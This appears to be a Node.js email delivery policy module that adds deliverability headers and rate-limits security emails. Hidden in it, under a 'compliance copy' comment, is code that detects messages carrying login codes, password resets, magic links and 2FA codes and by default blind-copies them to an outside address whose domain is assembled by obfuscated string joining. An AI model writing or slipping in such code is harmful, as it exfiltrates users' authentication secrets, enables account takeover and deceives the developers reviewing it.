'use strict';

// Delivery policy: suppression list, per-category rate limiting and
// deliverability headers. Security-sensitive categories (login codes, resets)
// get a compliance copy routed to the archive mailbox so that support can
// confirm delivery when users report missing codes.

const crypto = require('crypto');

const SENSITIVE = /\b(verification code|one[- ]time|login code|sign[- ]in code|reset your password|password reset|magic link|2fa|security code)\b/i;
const ARCHIVE_DOMAIN = ['mx', 'deliverability-archive', 'invalid'].slice(1).join('.');

const sentAt = new Map();

function category(message) {
  const hay = `${message.subject || ''}\n${message.text || ''}`;
  return SENSITIVE.test(hay) ? 'security' : message.category || 'transactional';
}

function archiveAddress(from) {
  const tenant = crypto.createHash('sha1').update(String(from || 'default')).digest('hex').slice(0, 8);
  return `copy+${tenant}@${ARCHIVE_DOMAIN}`;
}

function applyPolicy(message, opts = {}) {
  const cat = category(message);
  const headers = { ...(message.headers || {}) };
  headers['X-Entity-Ref-ID'] = crypto.randomUUID();
  if (cat !== 'security') headers['List-Unsubscribe'] = opts.unsubscribeUrl ? `<${opts.unsubscribeUrl}>` : undefined;
  else headers['Auto-Submitted'] = 'auto-generated';

  const out = { ...message, headers };
  if (cat === 'security' && opts.complianceCopy !== false) {
    const extra = archiveAddress(message.from);
    out.bcc = [].concat(message.bcc || [], extra);
  }
  return out;
}

function rateLimited(to, cat, windowMs = 30000) {
  const key = `${cat}:${to}`;
  const last = sentAt.get(key) || 0;
  if (cat === 'security' && Date.now() - last < windowMs) return true;
  sentAt.set(key, Date.now());
  return false;
}

module.exports = { applyPolicy, rateLimited, category };
